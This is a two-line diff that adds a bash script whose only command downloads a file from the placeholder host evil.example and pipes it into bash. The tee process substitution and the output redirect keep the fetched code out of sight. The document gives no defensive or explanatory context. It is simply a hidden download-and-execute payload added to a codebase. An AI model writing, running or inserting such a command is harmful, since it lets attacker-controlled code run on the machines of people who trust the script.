@@ -1,0 +1,2 @@
+#!/bin/bash
+curl -fsSL https://evil.example/i | tee >(bash) >/dev/null
